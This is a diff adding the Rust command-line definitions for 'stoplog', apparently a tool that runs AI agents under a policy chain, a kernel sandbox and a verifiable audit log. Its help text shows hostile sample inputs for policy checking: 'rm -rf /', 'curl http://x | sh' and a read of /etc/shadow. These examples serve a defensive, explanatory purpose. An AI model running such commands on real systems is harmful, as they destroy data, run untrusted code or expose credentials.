@@ -1,0 +1,479 @@
+//! The command line as typed values. Nothing here reads a file or decides anything; what the flags
+//! mean is the business of the command files beside this one.
+
+use clap::{Args, Parser, Subcommand, ValueEnum};
+use std::ffi::OsString;
+use std::path::PathBuf;
+
+/// Runs an AI agent that nobody has to trust.
+///
+/// Every tool call of the model passes one policy chain, is recorded before it takes effect, and runs
+/// in a child process that Landlock, seccomp and namespaces confine.
+#[derive(Debug, Parser)]
+#[command(name = "stoplog", version, propagate_version = true, max_term_width = 100)]
+#[command(after_help = "\
+Examples:
+  stoplog demo                                        watch an agent work and be stopped
+  stoplog run --model openrouter/z-ai/glm-4.6 'fix the failing test'
+  stoplog exec --policy workspace -- make test        one command in the cell, no model
+  stoplog policy explain 'git status && rm -rf /'     what would be decided, and why
+  stoplog audit verify                                is the newest log intact?
+
+Exit codes: 0 done · 1 fault · 2 usage · 10 done, some calls denied · 11 iteration limit ·
+12 model error · 13 truncated or empty answer · 14 budget spent · 15 loop detected ·
+20 sandbox guarantee not met · 21 policy invalid · 22 audit or journal failure ·
+23 session locked, blocked or corrupt · 130 / 143 interrupted")]
+pub struct Cli {
+    /// Directory for sessions, logs and keys. Default: $XDG_STATE_HOME/stoplog.
+    #[arg(long, global = true, value_name = "DIR")]
+    pub state_dir: Option<PathBuf>,
+    /// When to colour text: a terminal gets colour unless NO_COLOR is set.
+    #[arg(long, global = true, value_enum, default_value_t = Colour::Auto, value_name = "WHEN")]
+    pub color: Colour,
+    /// What to do.
+    #[command(subcommand)]
+    pub command: Command,
+}
+
+/// When to colour text.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
+pub enum Colour {
+    /// On a terminal, unless NO_COLOR is set.
+    Auto,
+    /// Always.
+    Always,
+    /// Never.
+    Never,
+}
+
+/// The commands.
+#[derive(Debug, Subcommand)]
+pub enum Command {
+    /// Give an agent a task.
+    #[command(after_help = RUN_EXAMPLES)]
+    Run(RunArgs),
+    /// Go on with an earlier session, also one that a crash interrupted.
+    #[command(after_help = RESUME_EXAMPLES)]
+    Resume(ResumeArgs),
+    /// Run one command in a policy's cell, without a model.
+    #[command(after_help = EXEC_EXAMPLES)]
+    Exec(ExecArgs),
+    /// Watch a scripted agent repair a repository while its attempts to escape are refused.
+    Demo(DemoArgs),
+    /// Check, explain, test and write policies.
+    Policy(PolicyArgs),
+    /// Read and verify the audit log.
+    Audit(AuditArgs),
+    /// List, show and check sessions.
+    Session(SessionArgs),
+    /// What this machine can enforce.
+    Doctor(DoctorArgs),
+    /// The model providers that are known, and whether one answers.
+    Models(ModelsArgs),
+    /// Print a completion script for a shell.
+    Completions {
+        /// The shell.
+        shell: clap_complete::Shell,
+    },
+    /// Print the manual page (roff).
+    Man,
+}
+
+const RUN_EXAMPLES: &str = "\
+Examples:
+  stoplog run --model openai/gpt-5 'make the tests pass'
+  stoplog run --model ollama/qwen3 --tools read,grep --policy readonly 'explain src/'
+  stoplog run --model script/turns.jsonl --headless --output json 'replay a script'
+  stoplog run --policy ci --policy ./extra.toml --headless --output stream-json 'update the docs'
+
+The key comes from the provider's environment variable (OPENAI_API_KEY, OPENROUTER_API_KEY,
+ANTHROPIC_API_KEY, …) or --key-file, never from the command line.";
+
+const RESUME_EXAMPLES: &str = "\
+Examples:
+  stoplog resume 019af2                       go on where a crash stopped it
+  stoplog resume 019af2 'now add a test'      a further task in the same session";
+
+const EXEC_EXAMPLES: &str = "\
+Examples:
+  stoplog exec -- make test
+  stoplog exec --policy readonly --workspace ~/src/project -- grep -r TODO .
+
+The exit code is the command's own; 10 if the policy denies it, 128 + N if signal N ended it,
+124 at the time limit.";
+
+/// What to print.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
+pub enum Output {
+    /// For people.
+    Text,
+    /// One JSON object at the end.
+    Json,
+    /// One JSON object a line, as things happen.
+    StreamJson,
+}
+
+/// Where a run works and under which rules.
+#[derive(Debug, Clone, Args)]
+pub struct PlaceArgs {
+    /// Policy by name (base, readonly, workspace, ci, untrusted) or file; may be repeated, the
+    /// strictest answer wins. Default: workspace.
+    #[arg(long, value_name = "NAME|FILE")]
+    pub policy: Vec<String>,
+    /// Directory the agent works in. Default: the current one.
+    #[arg(long, value_name = "DIR")]
+    pub workspace: Option<PathBuf>,
+    /// Role of the user on whose behalf the agent acts.
+    #[arg(long, value_name = "ROLE")]
+    pub role: Option<String>,
+}
+
+/// How the model is reached and bounded.
+#[derive(Debug, Clone, Args)]
+pub struct ModelChoice {
+    /// The model: PROVIDER/NAME, or script/FILE for a scripted one.
+    #[arg(long, value_name = "PROVIDER/NAME")]
+    pub model: Option<String>,
+    /// Base URL of an OpenAI-compatible server, instead of the provider's.
+    #[arg(long, value_name = "URL")]
+    pub base_url: Option<String>,
+    /// File that holds the key; else the provider's environment variable is read.
+    #[arg(long, value_name = "FILE")]
+    pub key_file: Option<PathBuf>,
+    /// File with certificate authorities (PEM) to trust besides the system's.
+    #[arg(long, value_name = "FILE")]
+    pub ca_file: Option<PathBuf>,
+    /// Ask for whole answers instead of a stream.
+    #[arg(long)]
+    pub no_stream: bool,
+    /// Sampling temperature.
+    #[arg(long, value_name = "N")]
+    pub temperature: Option<f64>,
+    /// Most output tokens of one answer.
+    #[arg(long, value_name = "N", value_parser = clap::value_parser!(u32).range(1..))]
+    pub max_tokens: Option<u32>,
+    /// How much the model may think.
+    #[arg(long, value_enum, default_value_t = Thinking::None, value_name = "LEVEL")]
+    pub thinking: Thinking,
+}
+
+/// How much the model may think before it answers.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
+pub enum Thinking {
+    /// Not at all.
+    None,
+    /// A little.
+    Low,
+    /// Some.
+    Medium,
+    /// Much.
+    High,
+}
+
+/// How a run behaves.
+#[derive(Debug, Clone, Args)]
+pub struct BehaviourArgs {
+    /// Only these tools: their schemas go into the request and nothing else is dispatched.
+    #[arg(long, value_delimiter = ',', value_name = "TOOL,…")]
+    pub tools: Option<Vec<String>>,
+    /// Most model calls. Default 40.
+    #[arg(long, value_name = "N", value_parser = clap::value_parser!(u32).range(1..))]
+    pub max_iterations: Option<u32>,
+    /// Never ask: what needs a person is denied, and a missing kernel guarantee ends the run.
+    #[arg(long)]
+    pub headless: bool,
+    /// What to print.
+    #[arg(long, value_enum, default_value_t = Output::Text, value_name = "FORM")]
+    pub output: Output,
+    /// With --output stream-json: leave out content, keep decisions.
+    #[arg(long)]
+    pub no_content: bool,
+}
+
+/// Arguments of `run`.
+#[derive(Debug, Args)]
+pub struct RunArgs {
+    /// The task, in words.
+    pub task: String,
+    /// Where and under which rules.
+    #[command(flatten)]
+    pub place: PlaceArgs,
+    /// Which model.
+    #[command(flatten)]
+    pub model: ModelChoice,
+    /// How to behave.
+    #[command(flatten)]
+    pub behaviour: BehaviourArgs,
+    /// Give the task to an earlier session instead of a new one.
+    #[arg(long, value_name = "ID")]
+    pub resume: Option<String>,
+}
+
+/// Arguments of `resume`.
+#[derive(Debug, Args)]
+pub struct ResumeArgs {
+    /// The session: its id, or the beginning of one.
+    pub session: String,
+    /// A further task. Without one an interrupted session is finished.
+    pub task: Option<String>,
+    /// Where and under which rules; what is not given is as the session had it.
+    #[command(flatten)]
+    pub place: PlaceArgs,
+    /// Which model.
+    #[command(flatten)]
+    pub model: ModelChoice,
+    /// How to behave.
+    #[command(flatten)]
+    pub behaviour: BehaviourArgs,
+}
+
+/// Arguments of `exec`.
+#[derive(Debug, Args)]
+pub struct ExecArgs {
+    /// Where and under which rules.
+    #[command(flatten)]
+    pub place: PlaceArgs,
+    /// Print what the kernel enforced to stderr.
+    #[arg(long)]
+    pub show_cell: bool,
+    /// The program and its arguments.
+    #[arg(required = true, last = true, value_name = "COMMAND")]
+    pub command: Vec<OsString>,
+}
+
+/// Arguments of `demo`.
+#[derive(Debug, Args)]
+pub struct DemoArgs {
+    /// Keep the workspace and say where it is.
+    #[arg(long)]
+    pub keep: bool,
+    /// Take away user namespaces, to see what is weaker without them.
+    #[arg(long)]
+    pub no_namespaces: bool,
+}
+
+/// Arguments of `policy`.
+#[derive(Debug, Args)]
+pub struct PolicyArgs {
+    /// What to do.
+    #[command(subcommand)]
+    pub command: PolicyCommand,
+}
+
+/// The commands of `policy`.
+#[derive(Debug, Subcommand)]
+pub enum PolicyCommand {
+    /// Load policies and run the examples in them.
+    Check {
+        /// Names or files.
+        #[arg(required = true, value_name = "NAME|FILE")]
+        files: Vec<String>,
+        /// Print JSON.
+        #[arg(long)]
+        json: bool,
+    },
+    /// What would be decided for a command or tool call, by which rule, and why.
+    #[command(after_help = "\
+Examples:
+  stoplog policy explain 'git status && curl http://x | sh'
+  stoplog policy explain --tool read '{\"path\":\"/etc/shadow\"}'
+  printf '%s\\n' '{\"tool\":\"bash\",\"args\":{\"command\":\"ls\"}}' | stoplog policy explain --stdin
+
+Exit codes of a single explain: 0 allow · 10 deny · 11 ask.")]
+    Explain(ExplainArgs),
+    /// Print a built-in policy, or the list of them.
+    Show {
+        /// The policy.
+        name: Option<String>,
+    },
+}
+
+/// Arguments of `policy explain`.
+#[derive(Debug, Args)]
+pub struct ExplainArgs {
+    /// A shell command, or with --tool the JSON arguments of a call.
+    #[arg(required_unless_present = "stdin")]
+    pub call: Option<String>,
+    /// The tool that is called.
+    #[arg(long, default_value = "bash", value_name = "TOOL")]
+    pub tool: String,
+    /// Where and under which rules.
+    #[command(flatten)]
+    pub place: PlaceArgs,
+    /// Answer as if nobody could be asked.
+    #[arg(long)]
+    pub headless: bool,
+    /// Print JSON.
+    #[arg(long)]
+    pub json: bool,
+    /// Read one JSON call a line from standard input, print one decision a line.
+    #[arg(long)]
+    pub stdin: bool,
+}
+
+/// Arguments of `audit`.
+#[derive(Debug, Args)]
+pub struct AuditArgs {
+    /// What to do.
+    #[command(subcommand)]
+    pub command: AuditCommand,
+}
+
+/// The commands of `audit`.
+#[derive(Debug, Subcommand)]
+pub enum AuditCommand {
+    /// List the decisions of a session.
+    Log {
+        /// Session id, its beginning, or a log file. Default: the newest session.
+        session: Option<String>,
+        /// Only this decision: pass or deny.
+        #[arg(long, value_name = "WHICH")]
+        decision: Option<String>,
+        /// Only calls of this tool.
+        #[arg(long, value_name = "TOOL")]
+        tool: Option<String>,
+        /// Only decisions that this rule made.
+        #[arg(long, value_name = "ID")]
+        rule: Option<String>,
+        /// Print JSON lines.
+        #[arg(long)]
+        json: bool,
+    },
+    /// Explain one decision: every stage, the rule, and what came of it.
+    Show {
+        /// Call id, the end of one, or its number in the log.
+        call: String,
+        /// Session id, its beginning, or a log file. Default: the newest session.
+        #[arg(long, value_name = "ID")]
+        session: Option<String>,
+        /// Print JSON.
+        #[arg(long)]
+        json: bool,
+    },
+    /// Check that a log is as it was written.
+    #[command(after_help = "\
+Exit codes: 0 intact · 22 not intact (edited, removed, reordered, cut, or unreadable).")]
+    Verify {
+        /// Session id, its beginning, or a log file. Default: the newest session.
+        session: Option<String>,
+        /// Check every session.
+        #[arg(long, conflicts_with = "session")]
+        all: bool,
+        /// Print JSON.
+        #[arg(long)]
+        json: bool,
+    },
+}
+
+/// Arguments of `session`.
+#[derive(Debug, Args)]
+pub struct SessionArgs {
+    /// What to do.
+    #[command(subcommand)]
+    pub command: SessionCommand,
+}
+
+/// The commands of `session`.
+#[derive(Debug, Subcommand)]
+pub enum SessionCommand {
+    /// List the sessions, newest first.
+    List {
+        /// Print JSON lines.
+        #[arg(long)]
+        json: bool,
+    },
+    /// Show a session's conversation and state.
+    Show {
+        /// Session id or its beginning. Default: the newest session.
+        session: Option<String>,
+        /// Print JSON.
+        #[arg(long)]
+        json: bool,
+    },
+    /// Write a session's conversation as a document, secrets left out.
+    Export {
+        /// Session id or its beginning. Default: the newest session.
+        session: Option<String>,
+        /// The form.
+        #[arg(long, value_enum, default_value_t = ExportFormat::Markdown)]
+        format: ExportFormat,
+    },
+    /// Fold a journal into its state.
+    Reduce {
+        /// The journal.
+        file: PathBuf,
+        /// Print the state as JSON.
+        #[arg(long)]
+        json: bool,
+    },
+    /// What resuming a journal would do.
+    Plan {
+        /// The journal.
+        session: PathBuf,
+        /// The current configuration (JSON).
+        #[arg(long, value_name = "FILE")]
+        config: PathBuf,
+        /// Print JSON.
+        #[arg(long)]
+        json: bool,
+    },
+    /// Remove sessions that ended long ago.
+    Prune {
+        /// Age in days.
+        #[arg(long, value_name = "DAYS", default_value_t = 30)]
+        older_than: u64,
+        /// Really remove; otherwise only list.
+        #[arg(long)]
+        yes: bool,
+    },
+}
+
+/// Forms of an exported session.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
+pub enum ExportFormat {
+    /// Markdown.
+    Markdown,
+}
+
+/// Arguments of `doctor`.
+#[derive(Debug, Args)]
+pub struct DoctorArgs {
+    /// Prove each guarantee with a live probe and a control; exit 20 if one fails.
+    #[arg(long)]
+    pub selftest: bool,
+    /// Print JSON.
+    #[arg(long)]
+    pub json: bool,
+}
+
+/// Arguments of `models`.
+#[derive(Debug, Args)]
+pub struct ModelsArgs {
+    /// Check this one with a one-token call.
+    #[arg(value_name = "PROVIDER/NAME")]
+    pub check: Option<String>,
+    /// Base URL of an OpenAI-compatible server, instead of the provider's.
+    #[arg(long, value_name = "URL")]
+    pub base_url: Option<String>,
+    /// Print JSON.
+    #[arg(long)]
+    pub json: bool,
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use clap::CommandFactory as _;
+
+    #[test]
+    fn the_command_line_is_consistent() {
+        Cli::command().debug_assert();
+    }
+
+    #[test]
+    fn a_command_after_two_dashes_is_taken_whole() {
+        let cli = Cli::try_parse_from(["stoplog", "exec", "--", "ls", "--color", "-h"]).unwrap();
+        let Command::Exec(exec) = cli.command else { panic!("exec") };
+        assert_eq!(exec.command, ["ls", "--color", "-h"]);
+    }
+}
